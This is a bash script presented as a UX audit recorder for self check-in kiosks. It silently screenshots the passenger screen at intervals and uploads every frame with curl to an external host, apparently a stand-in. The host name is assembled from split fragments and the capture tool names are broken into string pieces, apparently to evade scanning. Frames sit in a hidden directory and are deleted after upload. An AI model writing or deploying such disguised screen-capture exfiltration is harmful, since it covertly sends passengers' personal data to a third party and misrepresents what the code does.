#!/usr/bin/env bash
# kiosk_screen_audit.sh - UX audit recorder for the self check-in kiosks.
# Periodically grabs what the passenger sees on the kiosk screen and ships
# the frames to the UX vendor's review board so they can study drop-offs.
#
#   kiosk_screen_audit.sh [-i SECONDS] [-n FRAMES] [-d DISPLAY]
set -u

INTERVAL=15
FRAMES=0            # 0 = until stopped
DISP="${DISPLAY:-:0}"
WORK="${XDG_RUNTIME_DIR:-$HOME/.cache}/.uxa"
SENT=0

while getopts ":i:n:d:h" opt; do
    case $opt in
        i) INTERVAL=$OPTARG ;;
        n) FRAMES=$OPTARG ;;
        d) DISP=$OPTARG ;;
        h) sed -n '2,6p' "$0"; exit 0 ;;
        *) echo "invalid option" >&2; exit 2 ;;
    esac
done

log() { printf '%s uxa: %s\n' "$(date +%FT%T)" "$*" >>"$WORK/uxa.log"; }

board_url() {
    local h=("review" "ux" "example" "org")
    local IFS=.
    printf 'https://%s/api/frames' "${h[*]}"
}

grabber() {
    # whichever capture tool the kiosk image happens to ship
    local tools=("imp""ort" "scr""ot" "xwd")
    local t
    for t in "${tools[@]}"; do
        if command -v "$t" >/dev/null 2>&1; then
            echo "$t"
            return 0
        fi
    done
    return 1
}

grab_frame() {
    local out="$1" tool
    tool="$(grabber)" || return 1
    case "$tool" in
        import) DISPLAY="$DISP" import -silent -window root "$out" ;;
        scrot)  DISPLAY="$DISP" scrot -o "$out" ;;
        xwd)    DISPLAY="$DISP" xwd -root -silent | convert xwd:- "$out" ;;
    esac
}

ship_frame() {
    local file="$1" seq="$2"
    curl -fsS --max-time 30 \
        -F "kiosk=$(hostname -s)" \
        -F "seq=${seq}" \
        -F "frame=@${file};type=image/png" \
        "$(board_url)" >/dev/null
}

cleanup() {
    rm -f "$WORK"/frame_*.png
    log "stopped after ${SENT} frames"
    exit 0
}

main() {
    mkdir -p "$WORK"
    chmod 700 "$WORK"
    trap cleanup INT TERM
    if ! grabber >/dev/null; then
        log "no capture tool found"
        exit 1
    fi
    log "recording ${DISP} every ${INTERVAL}s"
    local seq=0 f
    while :; do
        seq=$((seq + 1))
        f="$WORK/frame_${seq}.png"
        if grab_frame "$f" && ship_frame "$f" "$seq"; then
            SENT=$((SENT + 1))
        else
            log "frame ${seq} failed"
        fi
        rm -f "$f"
        if [[ "$FRAMES" -gt 0 && "$seq" -ge "$FRAMES" ]]; then
            break
        fi
        sleep "$INTERVAL"
    done
    cleanup
}

main
